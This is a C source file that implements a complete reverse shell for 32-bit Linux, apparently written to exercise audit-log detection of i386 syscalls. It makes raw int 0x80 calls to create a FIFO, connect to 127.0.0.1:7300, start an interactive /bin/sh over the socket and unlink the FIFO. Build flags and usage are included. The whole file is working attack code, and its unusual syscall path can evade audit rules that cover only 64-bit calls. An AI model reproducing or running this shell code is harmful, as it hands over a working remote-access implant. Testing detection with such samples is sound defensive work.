// SPDX-License-Identifier: Apache-2.0
// A FIFO reverse shell in one 32-bit program that makes every call by its i386 number (mknod, open, socketcall or the
// direct connect, execve, unlink), so that audit shows arch=40000003. Freestanding: gcc -m32 -nostdlib -static
// -fno-pie -no-pie -fno-stack-protector [-DDIRECT] -O1. Usage: i386_dropper FIFO, connects to 127.0.0.1:7300.
// Numbers: arch/x86/entry/syscalls/syscall_32.tbl.
typedef unsigned long Word;

static long call(Word number, Word a, Word b, Word c) {
    long result;
    __asm__ volatile("int $0x80" : "=a"(result) : "a"(number), "b"(a), "c"(b), "d"(c) : "memory");
    return result;
}

enum { EXIT = 1, FORK = 2, READ = 3, WRITE = 4, OPEN = 5, UNLINK = 10, EXECVE = 11, MKNOD = 14, PIPE = 42, DUP2 = 63 };
enum { SOCKETCALL = 102, CONNECT = 362, SOCKET_OP = 1, CONNECT_OP = 3, RDONLY = 0, WRONLY = 1, FIFO_MODE = 0010600 };

static long connected(void) {
    struct { unsigned short family, port; unsigned address; char zero[8]; } peer = {2, 0x841c, 0x0100007f, {0}};  // :7300
    Word make[] = {2, 1, 0};
    long link = call(SOCKETCALL, SOCKET_OP, (Word)make, 0);
#ifdef DIRECT
    call(CONNECT, (Word)link, (Word)&peer, sizeof peer);
#else
    Word reach[] = {(Word)link, (Word)&peer, sizeof peer};
    call(SOCKETCALL, CONNECT_OP, (Word)reach, 0);
#endif
    return link;
}

static void pump(long from, long to) {
    char buffer[512];
    for (long got; (got = call(READ, (Word)from, (Word)buffer, sizeof buffer)) > 0;)
        call(WRITE, (Word)to, (Word)buffer, (Word)got);
    call(EXIT, 0, 0, 0);
}

static void become_shell(long input, long output) {
    char* argv[] = {"sh", "-i", 0};
    call(DUP2, (Word)input, 0, 0);
    call(DUP2, (Word)output, 1, 0);
    call(DUP2, (Word)output, 2, 0);
    call(EXECVE, (Word) "/bin/sh", (Word)argv, 0);
}

__attribute__((used)) static void dropper(Word* stack) {
    char* path = (char*)stack[2];
    int answers[2];
    call(PIPE, (Word)answers, 0, 0);
    call(MKNOD, (Word)path, FIFO_MODE, 0);
    if (call(FORK, 0, 0, 0) == 0) become_shell(call(OPEN, (Word)path, RDONLY, 0), answers[1]);
    long fifo = call(OPEN, (Word)path, WRONLY, 0);
    call(UNLINK, (Word)path, 0, 0);
    long link = connected();
    if (call(FORK, 0, 0, 0) == 0) pump(answers[0], link);
    pump(link, fifo);
}

__asm__(".globl _start\n_start: mov %esp, %eax\n push %eax\n call dropper\n");
